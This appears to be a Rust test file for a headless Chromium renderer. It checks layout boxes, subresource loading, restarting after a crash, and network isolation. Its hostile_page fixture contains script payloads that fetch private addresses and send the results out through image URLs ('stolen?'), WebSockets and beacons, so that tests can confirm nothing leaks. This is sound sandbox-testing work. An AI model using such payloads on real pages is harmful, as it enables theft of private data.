//! A real browser on pages of ours.

use super::*;
use crate::files::Files;
use crate::test_browser;
use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use unchaff_dom::Page;
use unchaff_segment::layout::{BoxKind, Color, Layout, RenderedBox};
use unchaff_segment::rect::Rect;
use unchaff_source::test_network;

fn browser() -> Option<Chromium> {
    let program = test_browser::or_skip();
    program.map(|_| Chromium::new(Options { time_limit: Duration::from_secs(60), ..Options::default() }))
}

fn render(browser: &mut Chromium, page: &Page) -> Result<Layout, RenderError> {
    Ok(browser.render(&PageToRender::new(page))?.layout)
}

fn texts(page: &Page, layout: &Layout) -> Vec<(String, Rect)> {
    let lines = layout.boxes.iter().filter(|found| found.kind == BoxKind::Text);
    lines.map(|line| (page.text(unchaff_dom::NodeId(line.node.unwrap())).trim().to_owned(), line.rect)).collect()
}

fn first<'l>(page: &Page, layout: &'l Layout, name: &str) -> &'l RenderedBox {
    let of = |found: &&RenderedBox| found.node.is_some_and(|node| page.name(unchaff_dom::NodeId(node)) == name);
    layout.boxes.iter().find(of).unwrap_or_else(|| panic!("no box of {name}"))
}

#[test]
fn boxes_carry_our_nodes_and_what_is_hidden_has_none() {
    let Some(mut browser) = browser() else { return };
    let page = Page::parse(
        "<!doctype html><style>body{margin:0;font:16px/20px monospace} #side{position:absolute;left:400px;top:0;width:100px;height:50px;background:#ff0000;color:#fff}
        .gone{display:none} .hidden{visibility:hidden} .clear{opacity:0} .off{position:absolute;left:-999px} .clip{height:20px;overflow:hidden} #bar{position:fixed;top:600px;left:0}</style>
        <p id=a style=margin:0>one <b>bold</b><br>second line</p><div id=side>white</div>
        <div class=gone>gone</div><div class=hidden>hidden</div><div class=clear>clear</div><div class=off>off</div>
        <div class=clip>seen<br>cut<br>cut too</div><div id=bar>fixed</div>
        <table><tr><td>cell</table><script>document.body.append('script')</script><noscript>no script</noscript>",
    );
    let layout = render(&mut browser, &page).unwrap();
    let lines = texts(&page, &layout);
    let seen: Vec<&str> = lines.iter().map(|(text, _)| text.as_str()).collect();
    assert_eq!(seen, ["one", "bold", "second line", "white", "off", "seen", "fixed", "cell", "no script"]);
    assert_eq!(lines[3].1.left, 400);
    assert_eq!(lines[5].1.height().min(20), lines[5].1.height());
    let side = layout.boxes.iter().find(|found| found.background == Some(Color([255, 0, 0]))).unwrap();
    assert_eq!(side.rect, Rect::from([400, 0, 500, 50]));
    assert!(first(&page, &layout, "b").inline);
    let by_text = |text: &str| {
        layout
            .boxes
            .iter()
            .find(|found| found.kind == BoxKind::Text && page.text(unchaff_dom::NodeId(found.node.unwrap())).contains(text))
            .unwrap()
    };
    assert!(by_text("bold").bold && !by_text("one").bold);
    assert_eq!(by_text("white").color, Some(Color::WHITE));
    assert!(by_text("fixed").fixed);
    // The tbody is nowhere in the source, and yet a box is in it.
    assert_eq!(first(&page, &layout, "tbody").kind, BoxKind::Other);
    assert_eq!((layout.width, layout.boxes[0].rect.left), (1280, 0));
}

#[test]
fn files_of_the_folder_are_found_and_images_have_a_mean_colour() {
    let Some(mut browser) = browser() else { return };
    let folder = tempfile::tempdir().unwrap();
    std::fs::create_dir(folder.path().join("css")).unwrap();
    std::fs::write(folder.path().join("css/style.css"), "p{position:absolute;left:123px}").unwrap();
    let svg =
        "<svg xmlns='http://www.w3.org/2000/svg' width='40' height='40'><rect width='40' height='40' fill='#3366cc'/></svg>";
    std::fs::write(folder.path().join("blue.svg"), svg).unwrap();
    let page = Page::parse(
        "<!doctype html><link rel=stylesheet href=../css/style.css><p>text</p><img src=/blue.svg><img src=https://example.org/x.png width=10 height=10><iframe srcdoc='<p>inner' width=300 height=100></iframe><h1 style='background:url(/blue.svg);width:40px;height:40px;text-indent:-999px'>name</h1><h2 style='background:url(/blue.svg)'>text</h2><h3 style='background:url(/blue.svg);height:40px'></h3>",
    );
    let files = Files { root: folder.path().to_owned(), page: PathBuf::from("pages/index.html") };
    let rendering = browser.render(&PageToRender::new(&page).with_subresources(Some(files)).with_screenshot(true)).unwrap();
    assert_eq!(texts(&page, &rendering.layout)[0].1.left, 123);
    assert_eq!(first(&page, &rendering.layout, "img").color, Some(Color([0x33, 0x66, 0xcc])));
    let frame = first(&page, &rendering.layout, "iframe");
    assert_eq!((frame.kind, frame.rect.width()), (BoxKind::Image, 304));
    // A background image stands for an element that says something of which nothing else is seen.
    assert_eq!(first(&page, &rendering.layout, "h1").kind, BoxKind::Image);
    assert_eq!(first(&page, &rendering.layout, "h2").kind, BoxKind::Other);
    assert_eq!(first(&page, &rendering.layout, "h3").kind, BoxKind::Other);
    let picture = rendering.screenshot.unwrap();
    assert!(picture.starts_with(b"\x89PNG"));
    assert!(browser.draw("<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'/>").unwrap().starts_with(b"\x89PNG"));
}

#[test]
fn a_browser_that_is_killed_is_replaced() {
    let Some(mut browser) = browser() else { return };
    let page = Page::parse("<p>text");
    render(&mut browser, &page).unwrap();
    let process = browser.process().unwrap();
    let kill = std::process::Command::new("kill").args(["-9", &process.to_string()]).status().unwrap();
    assert!(kill.success());
    assert_eq!(texts(&page, &render(&mut browser, &page).unwrap()).len(), 1);
    assert_ne!(browser.process(), Some(process));
}

#[cfg(unix)]
#[test]
fn a_browser_killed_in_mid_page_is_tried_once_more_and_the_next_page_has_a_new_one() {
    let Some(real) = test_browser::or_skip() else { return };
    // Says which process it is, and becomes the browser.
    let folder = tempfile::tempdir().unwrap();
    let (program, process) = (folder.path().join("browser"), folder.path().join("process"));
    let script = format!("#!/bin/sh\necho $$ > '{}'\nexec '{}' \"$@\"\n", process.display(), real.display());
    std::fs::write(&program, script).unwrap();
    std::fs::set_permissions(&program, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    // Whoever asks for the script of the page is in the middle of it, and is killed, once each: a part of a killed browser may live on for a
    // moment, and would ask again if its connection closed.
    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}/", server.local_addr().unwrap());
    let killer = std::thread::spawn(move || {
        let (mut asking, mut killed) = (Vec::new(), Vec::new());
        while killed.len() < 2 {
            asking.push(server.accept().unwrap());
            let process = std::fs::read_to_string(&process).unwrap();
            if !killed.contains(&process) {
                assert!(std::process::Command::new("kill").args(["-9", process.trim()]).status().unwrap().success());
                killed.push(process);
            }
        }
    });
    let time_limit = Duration::from_secs(60);
    let mut browser = Chromium::new(Options {
        program: Some(program),
        scripts: true,
        network: true,
        allow_private: true,
        time_limit,
        ..Options::default()
    });
    let page = unchaff_dom::Parser::new().url(&address).parse("<script src=slow.js></script><p>text");
    let error = render(&mut browser, &page).unwrap_err();
    assert!(matches!(error, RenderError::Ended { .. }), "{error}");
    killer.join().unwrap();
    let page = Page::parse("<p>text");
    assert_eq!(texts(&page, &render(&mut browser, &page).unwrap()).len(), 1);
}

/// A server on an address of the test network that answers every path the same way, and notes what it is asked: host and path.
fn serve(address: &str, asked: &Arc<Mutex<Vec<String>>>, answer: fn(&str) -> (&'static str, Vec<u8>)) -> String {
    let server = TcpListener::bind((address, 0)).unwrap();
    let own = server.local_addr().unwrap().to_string();
    let (asked, name) = (Arc::clone(asked), own.clone());
    // It ends with the test, which is a process of its own.
    std::thread::spawn(move || {
        for stream in server.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut line = String::new();
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let _ = reader.read_line(&mut line);
            let mut rest = String::new();
            while reader.read_line(&mut rest).is_ok_and(|length| length > 2) {}
            let mut words = line.split(' ');
            let (method, path) = (words.next().unwrap_or_default(), words.next().unwrap_or_default());
            asked.lock().unwrap().push(format!("{method} {name}{path}"));
            let (kind, body) = answer(path);
            let (status, more) = if path == "/away" { ("302 Found", kind) } else { ("200 OK", "") };
            let head = format!(
                "HTTP/1.1 {status}\r\nConnection: close\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: {}\r\n{}: {kind}\r\n\r\n",
                body.len(),
                if more.is_empty() { "Content-Type" } else { "Location" },
            );
            let _ = stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(&body));
        }
    });
    own
}

const BLUE: &str =
    "<svg xmlns='http://www.w3.org/2000/svg' width='40' height='40'><rect width='40' height='40' fill='#3366cc'/></svg>";

/// Every way to run a script that a page has, each of which asks this machine for something, besides plain references to it.
fn hostile_page(private: &str, public: &str) -> String {
    let run = |from: &str| {
        format!(
            "fetch('http://{private}/{from}-fetch').then(a=>a.text()).then(t=>{{new Image().src='http://{public}/stolen?'+t}});\
             new Image().src='http://{public}/{from}-ran';var s=new WebSocket('ws://{private}/{from}-socket');\
             navigator.sendBeacon('http://{public}/{from}-beacon','x');document.title='ran'"
        )
    };
    let escaped = |text: String| text.replace('&', "&amp;").replace('"', "&quot;");
    let script = |from: &str| format!("<script>{}</script>", run(from));
    format!(
        "<!doctype html><title>own</title><link rel=stylesheet href=http://{public}/style.css>
        <link rel=stylesheet href=http://{private}/style.css><link rel=preconnect href=http://{private}/>
        <link rel=prefetch href=http://{private}/prefetch><link rel=dns-prefetch href=http://{private}/>
        <style>@font-face{{font-family:x;src:url(http://{public}/font.woff2)}}h1{{font-family:x;background:url(http://{private}/background.png)}}</style>
        <meta http-equiv=refresh content='0;url=http://{private}/refresh'>{main}
        <iframe sandbox=allow-scripts srcdoc=\"{srcdoc}\"></iframe>
        <iframe srcdoc=\"{plain}\"></iframe>
        <iframe src=\"data:text/html,{data}\"></iframe>
        <iframe src=\"javascript:{address}\"></iframe><iframe src=http://{private}/frame></iframe><iframe src=http://{public}/frame></iframe>
        <object data=http://{private}/object></object><embed src=http://{private}/embed><video src=http://{private}/video autoplay></video>
        <img src=http://{public}/blue.svg id=seen><img src=http://{private}/image.svg><img src=http://{public}/away>
        <img src=missing onerror=\"{event}\"><body onload=\"{load}\"><svg><script>{svg}</script></svg>
        <a href='javascript:0' ping=http://{private}/ping>a</a><p>text</p><h1>heading</h1>",
        main = script("main"),
        srcdoc = escaped(script("sandbox")),
        plain = escaped(script("srcdoc")),
        data = escaped(script("data").replace('#', "%23")),
        address = escaped(run("address")),
        event = escaped(run("event")),
        load = escaped(run("load")),
        svg = run("svg"),
    )
}

#[test]
fn without_scripts_nothing_runs_and_only_what_is_public_is_asked_for_the_looks_of_a_page() {
    if !test_network::is_inside(
        "chromium::tests::without_scripts_nothing_runs_and_only_what_is_public_is_asked_for_the_looks_of_a_page",
    ) {
        return;
    }
    let Some(_) = test_browser::or_skip() else { return };
    let asked: Arc<Mutex<Vec<String>>> = Arc::default();
    let private = serve("127.0.0.1", &asked, |_| ("text/css", b"p{position:absolute;left:999px}".to_vec()));
    let redirect: &'static str = Box::leak(format!("http://{private}/redirected").into_boxed_str());
    AWAY.set(redirect).unwrap();
    let public = serve(test_network::PUBLIC, &asked, |path| match path {
        "/style.css" => ("text/css", b"p{position:absolute;left:123px}".to_vec()),
        "/away" => (AWAY.get().unwrap(), Vec::new()),
        _ => ("image/svg+xml", BLUE.as_bytes().to_vec()),
    });
    let page = unchaff_dom::Parser::new().url("http://www.example.org/").parse(hostile_page(&private, &public));
    let time_limit = Duration::from_secs(60);
    let mut browser = Chromium::new(Options { network: true, time_limit, ..Options::default() });
    let layout = render(&mut browser, &page).unwrap();
    // Late requests would come by now.
    std::thread::sleep(Duration::from_secs(1));
    let mut seen: Vec<String> = asked.lock().unwrap().drain(..).collect();
    seen.sort();
    seen.dedup();
    let expected = ["away", "blue.svg", "font.woff2", "style.css"].map(|path| format!("GET {public}/{path}"));
    assert_eq!(seen, expected);
    assert_eq!(texts(&page, &layout).iter().find(|(text, _)| text == "text").unwrap().1.left, 123);
    assert_eq!(first(&page, &layout, "img").color, Some(Color([0x33, 0x66, 0xcc])), "an image of another host can be read by us");

    // Private ones by a switch, and still nothing runs.
    let mut browser = Chromium::new(Options { network: true, allow_private: true, time_limit, ..Options::default() });
    render(&mut browser, &page).unwrap();
    std::thread::sleep(Duration::from_secs(1));
    let seen: Vec<String> = asked.lock().unwrap().drain(..).collect();
    assert!(seen.contains(&format!("GET {private}/image.svg")), "{seen:?}");
    let ran = ["-ran", "-fetch", "-socket", "-beacon", "stolen", "frame", "object", "embed", "video", "ping", "refresh"];
    assert!(seen.iter().all(|asked| ran.iter().all(|word| !asked.contains(word))), "{seen:?}");

    // Without the network nothing at all.
    let mut browser = Chromium::new(Options { time_limit, ..Options::default() });
    render(&mut browser, &page).unwrap();
    assert_eq!(asked.lock().unwrap().len(), 0);

    // With scripts they run, but reach what is public, by GET, and nothing else.
    let mut browser = Chromium::new(Options { network: true, scripts: true, time_limit, ..Options::default() });
    render(&mut browser, &page).unwrap();
    std::thread::sleep(Duration::from_secs(1));
    let seen: Vec<String> = asked.lock().unwrap().drain(..).collect();
    assert!(seen.contains(&format!("GET {public}/main-ran")), "{seen:?}");
    assert!(seen.iter().all(|asked| asked.starts_with("GET ") && !asked.contains(&private)), "{seen:?}");
}

static AWAY: std::sync::OnceLock<&'static str> = std::sync::OnceLock::new();

#[test]
fn odd_pages_are_rendered() {
    let Some(mut browser) = browser() else { return };
    let misnested = "<p><b>one<p>two</b>three<select><option>four</select><table>five<tr><td>six</table>";
    for html in [
        "",
        " ",
        "only text",
        "<frameset><frame src=a></frameset>",
        "<meta http-equiv=refresh content='0;url=https://example.org/'>stay",
        misnested,
    ] {
        let page = Page::parse(html);
        let layout = render(&mut browser, &page).unwrap_or_else(|error| panic!("{html}: {error}"));
        assert!(layout.boxes.iter().all(|found| found.node.is_none_or(|node| (node as usize) < page.len())), "{html}");
    }
    let page = Page::parse(misnested);
    let layout = render(&mut browser, &page).unwrap();
    let seen: Vec<String> = texts(&page, &layout).into_iter().map(|(text, _)| text).collect();
    assert_eq!(seen, ["one", "two", "three", "five", "six"]);
}

#[test]
fn what_is_no_browser_is_told_so() {
    let options =
        Options { program: Some(PathBuf::from("/bin/false")), time_limit: Duration::from_secs(5), ..Options::default() };
    let mut browser = Chromium::new(options);
    let error = render(&mut browser, &Page::parse("<p>text")).unwrap_err().to_string();
    assert!(error.contains("/bin/false") && error.contains("UNCHAFF_CHROMIUM"), "{error}");
}

#[cfg(unix)]
#[test]
fn what_takes_too_long_is_given_up() {
    // Reads what it is told and never answers.
    let folder = tempfile::tempdir().unwrap();
    let program = folder.path().join("slow");
    std::fs::write(&program, "#!/bin/sh\nexec sleep 60\n").unwrap();
    std::fs::set_permissions(&program, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let options = Options { program: Some(program), time_limit: Duration::from_millis(300), ..Options::default() };
    let mut browser = Chromium::new(options);
    let error = render(&mut browser, &Page::parse("<p>text")).unwrap_err();
    assert!(matches!(error, RenderError::Late { .. }), "{error}");
    assert_eq!(browser.process(), None);
}
